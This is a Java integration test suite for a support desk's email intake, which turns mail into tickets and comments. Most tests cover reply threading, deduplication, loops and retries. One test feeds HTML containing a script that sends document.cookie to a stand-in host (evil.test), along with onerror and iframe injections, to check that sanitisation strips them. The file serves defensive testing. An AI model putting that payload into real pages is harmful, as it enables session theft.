package org.openbpo.support;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openbpo.shared.tenant.AllowedClients;
import org.openbpo.shared.tenant.TenantScope;
import org.openbpo.testing.IntegrationTest;
import org.openbpo.work.WorkItem;
import org.openbpo.work.WorkItemComments;
import org.openbpo.work.WorkItems;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

import java.nio.charset.StandardCharsets;
import java.util.UUID;
import java.util.concurrent.Callable;

import static org.assertj.core.api.Assertions.assertThat;

/** Mail handed to a client's channel becomes tickets and comments, and whatever it holds, the outcome is recorded. */
class EmailIntakeTest extends IntegrationTest {

    @Autowired
    ApplicationContext context;
    @Autowired
    EmailIntake intake;
    @Autowired
    WorkItems workItems;
    @Autowired
    WorkItemComments comments;
    @Autowired
    org.openbpo.support.persistence.InboundMessageRows rows;
    @Autowired
    org.springframework.transaction.support.TransactionTemplate transactions;

    @Autowired
    org.springframework.jdbc.core.simple.JdbcClient jdbc;
    @Autowired
    CustomerRecords customers;
    @Autowired
    org.openbpo.audit.AuditTrail audit;

    SupportFixture.Desk desk;

    @BeforeEach
    void aClientWithAnEmailChannel() {
        desk = SupportFixture.desk(context, providerAdministrator(), unique("MAIL"), null, null);
    }

    @Test
    void aNewMessageBecomesATicketAndItsRepliesCommentsOnIt() {
        TestMail first = TestMail.from("Ann Customer <ann@customer.test>").to(desk.address()).subject("My card was charged twice")
                .text("Hello,\nI was charged twice for order 4471.\n\n-- \nAnn");
        IntakeOutcome created = receive(first);

        assertThat(created.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
        WorkItem ticket = as(() -> workItems.get(desk.clientId(), created.message().itemId()));
        assertThat(ticket.title()).isEqualTo("My card was charged twice");
        assertThat(ticket.channel()).isEqualTo("EMAIL");
        assertThat(ticket.serviceLine()).isEqualTo("support");
        assertThat(ticket.requester()).isEqualTo("ann@customer.test");
        assertThat(ticket.form()).containsEntry("customerEmail", "ann@customer.test")
                .containsEntry("description", "Hello,\nI was charged twice for order 4471.");

        IntakeOutcome byHeaders = receive(TestMail.from("ann@customer.test").subject("Re: My card was charged twice")
                .inReplyTo(first.messageId()).text("Here is the receipt.\n\nOn Mon, Albion wrote:\n> earlier"));
        IntakeOutcome bySubject = receive(TestMail.from("ann@customer.test")
                .subject("Re: My card [" + ticket.reference() + "]").text("Any news?"));

        assertThat(byHeaders.message().status()).isEqualTo(IntakeStatus.COMMENT_ADDED);
        assertThat(byHeaders.message().itemId()).isEqualTo(ticket.id());
        assertThat(bySubject.message().itemId()).isEqualTo(ticket.id());
        assertThat(as(() -> comments.of(desk.clientId(), ticket.id())))
                .extracting(WorkItemComments.Comment::body, WorkItemComments.Comment::visibility)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("Here is the receipt.", WorkItemComments.Visibility.CLIENT),
                        org.assertj.core.groups.Tuple.tuple("Any news?", WorkItemComments.Visibility.CLIENT));
    }

    @Test
    void theCustomersAnswerPutsATicketWaitingOnThemBackToWork() {
        TestMail question = TestMail.from("ann@customer.test").subject("Change my address");
        long ticket = receive(question).message().itemId();
        var agent = org.openbpo.tenancy.CurrentUser.of(desk.setup().maker());
        as(() -> workItems.move(desk.clientId(), ticket, new org.openbpo.work.MoveWorkItem("open", null), agent));
        as(() -> workItems.move(desk.clientId(), ticket, new org.openbpo.work.MoveWorkItem("waiting_on_customer", "New postcode?"), agent));

        receive(TestMail.from("ann@customer.test").subject("Re: Change my address").inReplyTo(question.messageId()).text("LS1 4AB"));

        WorkItem resumed = as(() -> workItems.get(desk.clientId(), ticket));
        assertThat(resumed.state()).isEqualTo("open");
        assertThat(resumed.sla().pausedSince()).isNull();
    }

    @Test
    void aReplyToASolvedTicketReopensItWithTheCustomersWords() {
        TestMail question = TestMail.from("ann@customer.test").subject("Printer offline");
        long ticket = receive(question).message().itemId();
        var agent = org.openbpo.tenancy.CurrentUser.of(desk.setup().maker());
        as(() -> workItems.move(desk.clientId(), ticket, new org.openbpo.work.MoveWorkItem("solved", "Driver reinstalled"), agent));
        clock.advance(java.time.Duration.ofHours(2));

        IntakeOutcome reply = receive(TestMail.from("ann@customer.test").subject("Re: Printer offline")
                .inReplyTo(question.messageId()).text("No, it is still broken."));

        assertThat(reply.message().status()).isEqualTo(IntakeStatus.COMMENT_ADDED);
        assertThat(reply.message().itemId()).isEqualTo(ticket);
        assertThat(reply.message().notes()).singleElement().asString().contains("WI-" + ticket).contains("reopened");
        WorkItem reopened = as(() -> workItems.get(desk.clientId(), ticket));
        assertThat(reopened.state()).isEqualTo("open");
        assertThat(reopened.completedAt()).isNull();
        assertThat(as(() -> comments.of(desk.clientId(), ticket))).extracting(WorkItemComments.Comment::body)
                .containsExactly("No, it is still broken.");
    }

    @Test
    void aReplyToATicketClosedForGoodRaisesANewTicketNamingIt() {
        TestMail question = TestMail.from("ann@customer.test").subject("Cancel my plan");
        long closed = receive(question).message().itemId();
        var agent = org.openbpo.tenancy.CurrentUser.of(desk.setup().maker());
        as(() -> workItems.move(desk.clientId(), closed, new org.openbpo.work.MoveWorkItem("open", null), agent));
        as(() -> workItems.move(desk.clientId(), closed, new org.openbpo.work.MoveWorkItem("closed_unsolved", "No answer"), agent));

        IntakeOutcome reply = receive(TestMail.from("ann@customer.test").subject("Re: Cancel my plan")
                .inReplyTo(question.messageId()).text("Sorry, I was away. Please cancel it now."));
        IntakeOutcome bySubject = receive(TestMail.from("ann@customer.test").subject("Re: Cancel my plan [WI-" + closed + "]")
                .text("Hello?"));

        assertThat(reply.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
        long raised = reply.message().itemId();
        assertThat(raised).isNotEqualTo(closed);
        assertThat(reply.message().notes()).singleElement().asString().contains("WI-" + closed).contains("new ticket");
        WorkItem followUp = as(() -> workItems.get(desk.clientId(), raised));
        assertThat(followUp.state()).isEqualTo("new");
        assertThat(followUp.requester()).isEqualTo("ann@customer.test");
        assertThat(followUp.form()).containsEntry("customerEmail", "ann@customer.test");
        assertThat(String.valueOf(followUp.form().get("description"))).contains("WI-" + closed)
                .contains("Sorry, I was away. Please cancel it now.");
        assertThat(as(() -> workItems.get(desk.clientId(), closed)).state()).isEqualTo("closed_unsolved");
        assertThat(as(() -> comments.of(desk.clientId(), closed))).noneMatch(c -> c.visibility() == WorkItemComments.Visibility.CLIENT);
        assertThat(bySubject.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
        assertThat(bySubject.message().itemId()).isNotEqualTo(closed);
    }

    @Test
    void agentsSeeTheCustomersHtmlOnlySanitised() {
        byte[] html = ("From: ann@customer.test\r\nSubject: Look\r\nMessage-ID: <" + unique("html") + "@customer.test>\r\n"
                + "Content-Type: text/html; charset=UTF-8\r\n\r\n"
                + "<p>Click <a href=\"https://shop.test/o/1\" onclick=\"steal()\">here</a>"
                + "<script>document.location='https://evil.test/?'+document.cookie</script>"
                + "<img src=x onerror=alert(1)><iframe src=https://evil.test></iframe></p>\r\n").getBytes(StandardCharsets.UTF_8);
        IntakeOutcome outcome = as(() -> intake.receive(desk.clientId(), html, IntakeSource.RELAY));

        TicketEmail shown = as(() -> intake.emailsOf(desk.clientId(), outcome.message().itemId(), admin())).getFirst();
        assertThat(shown.safeHtml()).contains("https://shop.test/o/1").contains("here").contains("rel=\"")
                .doesNotContain("<script").doesNotContain("onclick").doesNotContain("onerror").doesNotContain("<img")
                .doesNotContain("iframe").doesNotContain("evil.test");
        assertThat(shown.text()).isEqualTo("Click here");
        assertThat(as(() -> workItems.get(desk.clientId(), outcome.message().itemId())).form()).containsEntry("description", "Click here");
    }

    @Test
    void aStrangerNamingSomeoneElsesTicketRaisesANewOne() {
        long ticket = receive(TestMail.from("ann@customer.test").subject("Refund")).message().itemId();
        IntakeOutcome stranger = receive(TestMail.from("mallory@evil.test").subject("Re: Refund [WI-" + ticket + "]")
                .text("Send the refund to my account instead"));

        assertThat(stranger.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
        assertThat(stranger.message().itemId()).isNotEqualTo(ticket);
        assertThat(stranger.message().notes()).singleElement().asString().contains("is not its customer");
    }

    @Test
    void aSubjectNamingNoTicketOfTheClientRaisesANewOne() {
        IntakeOutcome unknown = receive(TestMail.from("ann@customer.test").subject("Re: Where is my order [WI-999999999]")
                .text("Still waiting"));

        assertThat(unknown.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
        assertThat(unknown.message().itemId()).isNotNull();
        assertThat(unknown.message().notes()).singleElement().asString().contains("not a ticket of this client");
        assertThat(as(() -> workItems.get(desk.clientId(), unknown.message().itemId())).form()).containsEntry("description", "Still waiting");
    }

    @Test
    void theSameMessageTwiceIsOneTicket() {
        TestMail mail = TestMail.from("ann@customer.test").subject("Twice");
        IntakeOutcome first = receive(mail);
        IntakeOutcome again = receive(mail);
        assertThat(again.duplicate()).isTrue();
        assertThat(again.message().itemId()).isEqualTo(first.message().itemId());
        assertThat(again.message().id()).isEqualTo(first.message().id());

        TestMail noId = TestMail.from("ann@customer.test").subject("No id").withoutMessageId();
        IntakeOutcome hashed = receive(noId);
        assertThat(hashed.message().key()).startsWith("sha256:");
        assertThat(receive(noId).duplicate()).isTrue();
    }

    @Test
    void aMessageStoredBeforeACrashIsFinishedLaterAndOnlyOnce() {
        TestMail mail = TestMail.from("ann@customer.test").subject("Stored, then the node died");
        // What a node leaves behind when it dies after storing a message and before reading it.
        as(() -> rows.insert(desk.clientId(), org.openbpo.shared.id.Ids.next(), mail.messageId(), mail.messageId(),
                IntakeSource.IMAP, mail.bytes(), mail.bytes().length, clock.instant(), "ann@customer.test", "Stored", IntakeStatus.RECEIVED, null));

        assertThat(TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100)))
                .as("a message just stored is left to the batch reading it").isZero();
        clock.advance(java.time.Duration.ofMinutes(2));
        // Finished here, or by the mailbox poller's own tick in between: either way a ticket, once (asserted below).
        TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100));
        IntakeOutcome fetchedAgain = receive(mail);

        assertThat(fetchedAgain.duplicate()).isTrue();
        assertThat(fetchedAgain.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
        assertThat(as(() -> workItems.get(desk.clientId(), fetchedAgain.message().itemId()).title())).isEqualTo("Stored, then the node died");
        assertThat(TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100))).isZero();
    }

    @Test
    void aMessageTheDatabaseFailedToReadWaitsAndBecomesOneTicketLater() throws Exception {
        TestMail mail = TestMail.from("ann@customer.test").to(desk.address()).subject("Read when the database lets us");
        IntakeOutcome first;
        try (var failure = org.openbpo.testing.SerializationFailure.onceOnInsert("work.work_item", desk.clientId())) {
            first = receive(mail);
        }
        assertThat(first.message().status()).as("a passing failure settles nothing").isEqualTo(IntakeStatus.RECEIVED);
        assertThat(first.message().itemId()).isNull();

        clock.advance(java.time.Duration.ofSeconds(90));
        TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100));
        assertThat(receive(mail).message().status()).as("not read again before its pause is over").isEqualTo(IntakeStatus.RECEIVED);

        clock.advance(java.time.Duration.ofMinutes(2));
        // Read here, or by the mailbox poller's own tick in between: either way a ticket, once.
        TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100));
        IntakeOutcome later = receive(mail);
        assertThat(later.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
        assertThat(as(() -> workItems.get(desk.clientId(), later.message().itemId()).title())).isEqualTo("Read when the database lets us");
        Long tickets = TenantScope.call(AllowedClients.ALL, () -> transactions.execute(tx -> jdbc.sql(
                "select count(*) from work.work_item where client_id = ? and title = ?").params(desk.clientId(),
                "Read when the database lets us").query(Long.class).single()));
        assertThat(tickets).isEqualTo(1L);
    }

    @Test
    void aMessageTheDatabaseKeepsFailingToReadIsSettledAsFailedInTheEnd() throws Exception {
        TestMail mail = TestMail.from("ann@customer.test").to(desk.address()).subject("Never readable");
        IntakeOutcome first;
        try (var failure = org.openbpo.testing.SerializationFailure.onceOnInsert("work.work_item", desk.clientId())) {
            first = receive(mail);
        }
        assertThat(first.message().status()).isEqualTo(IntakeStatus.RECEIVED);
        // Seven reads failed so far; the eighth fails too.
        try (var superuser = org.openbpo.testing.TestDatabase.get().superuserConnection(); var sql = superuser.createStatement()) {
            sql.execute("update support.inbound_message set read_attempts = 7, next_read_at = null where id = '"
                    + first.message().id() + "'");
        }
        clock.advance(java.time.Duration.ofMinutes(2));
        try (var failure = org.openbpo.testing.SerializationFailure.onceOnInsert("work.work_item", desk.clientId())) {
            TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100));
        }
        IntakeOutcome settled = receive(mail);
        assertThat(settled.message().status()).isEqualTo(IntakeStatus.FAILED);
        assertThat(settled.message().reason()).contains("could not serialize");
    }

    @Test
    void automaticRepliesAndLoopsAreIgnoredWithAReason() {
        IntakeOutcome away = receive(TestMail.from("ann@customer.test").header("Auto-Submitted", "auto-replied").subject("Out of office"));
        assertThat(away.message().status()).isEqualTo(IntakeStatus.IGNORED);
        assertThat(away.message().reason()).isEqualTo("Automatic message: Auto-Submitted: auto-replied");
        assertThat(away.message().itemId()).isNull();

        IntakeOutcome bulk = receive(TestMail.from("news@shop.test").header("Precedence", "bulk"));
        assertThat(bulk.message().reason()).contains("Precedence: bulk");

        IntakeOutcome ourself = receive(TestMail.from(desk.address()).subject("Re: something"));
        assertThat(ourself.message().reason()).startsWith("Mail loop").contains("own address");

        for (int i = 0; i < 20; i++) {
            assertThat(receive(TestMail.from("robot@flood.test").subject("Flood " + i)).message().status())
                    .isEqualTo(IntakeStatus.TICKET_CREATED);
        }
        IntakeOutcome flood = receive(TestMail.from("robot@flood.test").subject("Flood 21"));
        assertThat(flood.message().status()).isEqualTo(IntakeStatus.IGNORED);
        assertThat(flood.message().reason()).contains("more than 20 messages in a minute");
        clock.advance(java.time.Duration.ofMinutes(2));
        assertThat(receive(TestMail.from("robot@flood.test").subject("Later")).message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
    }

    @Test
    void malformedMailIsKeptWithAReason() {
        byte[] broken = ("From: ann@customer.test\r\nSubject: Broken\r\nMessage-ID: <broken-" + unique("m") + "@customer.test>\r\n"
                + "Content-Type: multipart/mixed\r\n\r\nno boundary anywhere\r\n").getBytes(StandardCharsets.US_ASCII);
        IntakeOutcome outcome = as(() -> intake.receive(desk.clientId(), broken, IntakeSource.RELAY));

        assertThat(outcome.message().status()).isEqualTo(IntakeStatus.REJECTED);
        assertThat(outcome.message().reason()).startsWith("Malformed MIME");
        assertThat(outcome.message().subject()).isEqualTo("Broken");
        assertThat(as(() -> intake.raw(desk.clientId(), outcome.message().id(), admin()))).isEqualTo(broken);
    }

    @Test
    void executablesAreRefusedAndOtherFilesKept() {
        IntakeOutcome outcome = receive(TestMail.from("ann@customer.test").subject("Files")
                .attach("receipt.pdf", "application/pdf", "%PDF-1.7 receipt".getBytes(StandardCharsets.US_ASCII))
                .attach("invoice.pdf.exe", "application/octet-stream", "MZ\u0090 program".getBytes(StandardCharsets.ISO_8859_1)));

        long ticket = outcome.message().itemId();
        assertThat(as(() -> comments.attachments(desk.clientId(), ticket))).extracting(WorkItemComments.Attachment::filename)
                .containsExactly("receipt.pdf");
        assertThat(outcome.message().notes()).singleElement().asString()
                .contains("invoice.pdf.exe (executable files are refused)");
        assertThat(as(() -> comments.of(desk.clientId(), ticket))).singleElement()
                .satisfies(c -> assertThat(c.visibility()).isEqualTo(WorkItemComments.Visibility.INTERNAL));
    }

    @Test
    void aBatchIsStoredOnceAndAMessageTheBatchCannotReadIsReadOnItsOwnWithItsReason() {
        TestMail first = TestMail.from("dora@customer.test").to(desk.address()).subject("Card lost").text("Please block it.");
        // PostgreSQL keeps no NUL character in text: this message fails wherever it is written, and
        // takes its batch's transaction down with it.
        TestMail poisoned = TestMail.from("eve@customer.test").to(desk.address()).subject("Odd").text("before\u0000after");
        TestMail reply = TestMail.from("dora@customer.test").to(desk.address()).subject("Re: Card lost")
                .inReplyTo(first.messageId()).text("Found it again, sorry.");
        java.util.List<EmailIntake.Incoming> batch = java.util.stream.Stream.of(first, poisoned, reply, first)
                .map(mail -> new EmailIntake.Incoming(mail.bytes(), mail.bytes().length)).toList();

        java.util.List<IntakeOutcome> outcomes = TenantScope.call(AllowedClients.only(desk.clientId()),
                () -> intake.receiveAll(desk.clientId(), batch, IntakeSource.IMAP));

        assertThat(outcomes).extracting(o -> o.message().status()).containsExactly(IntakeStatus.TICKET_CREATED, IntakeStatus.FAILED,
                IntakeStatus.COMMENT_ADDED, IntakeStatus.TICKET_CREATED);
        assertThat(outcomes).extracting(IntakeOutcome::duplicate).containsExactly(false, false, false, true);
        assertThat(outcomes.get(1).message().reason()).isNotBlank();
        assertThat(outcomes.get(2).message().itemId()).isEqualTo(outcomes.get(0).message().itemId());
        java.util.List<IntakeOutcome> again = TenantScope.call(AllowedClients.only(desk.clientId()),
                () -> intake.receiveAll(desk.clientId(), batch, IntakeSource.IMAP));
        assertThat(again).extracting(IntakeOutcome::duplicate).containsOnly(true);
        assertThat(TenantScope.call(AllowedClients.only(desk.clientId()), () -> intake.messages(desk.clientId(), null, null, 10, admin())))
                .hasSize(3);
    }

    @Test
    void aBatchIdentifiesEachSenderOnceAndLinksEveryTicketToTheirRecord() {
        IntakeOutcome known = receive(TestMail.from("Gil Known <gil@customer.test>").to(desk.address()).subject("First").text("One."));
        IntakeOutcome nameless = receive(TestMail.from("jo@customer.test").to(desk.address()).subject("Hello").text("Two."));
        UUID gil = as(() -> customers.ofTicket(desk.clientId(), known.message().itemId())).orElseThrow().id();
        UUID jo = as(() -> customers.ofTicket(desk.clientId(), nameless.message().itemId())).orElseThrow().id();

        java.util.List<EmailIntake.Incoming> batch = java.util.stream.Stream.of(
                        TestMail.from("Hal New <hal@customer.test>").to(desk.address()).subject("Parcel late").text("Where is it?"),
                        TestMail.from("Hal New <HAL@customer.test>").to(desk.address()).subject("Another parcel").text("And this one?"),
                        TestMail.from("Gil Known <gil@customer.test>").to(desk.address()).subject("Second").text("Three."),
                        TestMail.from("Jo Smith <jo@customer.test>").to(desk.address()).subject("Again").text("Four."))
                .map(mail -> new EmailIntake.Incoming(mail.bytes(), mail.bytes().length)).toList();
        java.util.List<IntakeOutcome> outcomes = TenantScope.call(AllowedClients.only(desk.clientId()),
                () -> intake.receiveAll(desk.clientId(), batch, IntakeSource.IMAP));

        assertThat(outcomes).extracting(o -> o.message().status()).containsOnly(IntakeStatus.TICKET_CREATED);
        java.util.List<Customer> owners = outcomes.stream()
                .map(o -> as(() -> customers.ofTicket(desk.clientId(), o.message().itemId())).orElseThrow()).toList();
        Customer hal = owners.getFirst();
        assertThat(owners.get(1).id()).as("one record for both of Hal's new tickets").isEqualTo(hal.id());
        assertThat(hal.name()).isEqualTo("Hal New");
        assertThat(hal.email()).isEqualTo("hal@customer.test");
        assertThat(owners.get(2).id()).as("a known sender's ticket joins their record").isEqualTo(gil);
        assertThat(owners.get(3).id()).isEqualTo(jo);
        assertThat(owners.get(3).name()).as("what the record did not know is filled in").isEqualTo("Jo Smith");
        assertThat(as(() -> customers.history(desk.clientId(), hal.id())).tickets()).hasSize(2);
        assertThat(as(() -> customers.history(desk.clientId(), gil)).tickets()).hasSize(2);
        assertThat(as(() -> audit.history(desk.clientId(), "customer", hal.id()))).extracting(org.openbpo.audit.AuditEntry::action)
                .containsExactly("support.customer-created");
        assertThat(as(() -> audit.history(desk.clientId(), "customer", gil))).extracting(org.openbpo.audit.AuditEntry::action)
                .containsExactly("support.customer-created");
    }

    @Test
    void aReplyFindsAnOriginalOfItsOwnBatchAndAReplyInALaterBatchFindsItToo() {
        TestMail question = TestMail.from("kim@customer.test").to(desk.address()).subject("Invoice wrong").text("Line 3 is off.");
        TestMail answer = TestMail.from("kim@customer.test").to(desk.address()).subject("Re: Invoice wrong")
                .inReplyTo(question.messageId()).text("It should be 40, not 400.");
        TestMail later = TestMail.from("kim@customer.test").to(desk.address()).subject("Re: Re: Invoice wrong")
                .inReplyTo(answer.messageId()).text("Any news?");
        java.util.List<IntakeOutcome> first = TenantScope.call(AllowedClients.only(desk.clientId()),
                () -> intake.receiveAll(desk.clientId(), java.util.stream.Stream.of(question, answer)
                        .map(mail -> new EmailIntake.Incoming(mail.bytes(), mail.bytes().length)).toList(), IntakeSource.IMAP));
        java.util.List<IntakeOutcome> second = TenantScope.call(AllowedClients.only(desk.clientId()),
                () -> intake.receiveAll(desk.clientId(), java.util.List.of(new EmailIntake.Incoming(later.bytes(), later.bytes().length)),
                        IntakeSource.IMAP));

        long ticket = first.getFirst().message().itemId();
        assertThat(first).extracting(o -> o.message().status()).containsExactly(IntakeStatus.TICKET_CREATED, IntakeStatus.COMMENT_ADDED);
        assertThat(first.get(1).message().itemId()).isEqualTo(ticket);
        assertThat(second.getFirst().message().status()).isEqualTo(IntakeStatus.COMMENT_ADDED);
        assertThat(second.getFirst().message().itemId()).as("found through the reply recorded by the first batch").isEqualTo(ticket);
        assertThat(as(() -> comments.of(desk.clientId(), ticket))).extracting(WorkItemComments.Comment::body)
                .containsExactly("It should be 40, not 400.", "Any news?");
    }

    private IntakeOutcome receive(TestMail mail) {
        return TenantScope.call(AllowedClients.only(desk.clientId()), () -> intake.receive(desk.clientId(), mail.bytes(), IntakeSource.RELAY));
    }

    private org.openbpo.tenancy.CurrentUser admin() {
        return org.openbpo.tenancy.CurrentUser.of(desk.setup().maker());
    }

    private <T> T as(Callable<T> work) {
        return TenantScope.call(AllowedClients.only(desk.clientId()), () -> transactions.execute(tx -> {
            try {
                return work.call();
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }));
    }
}
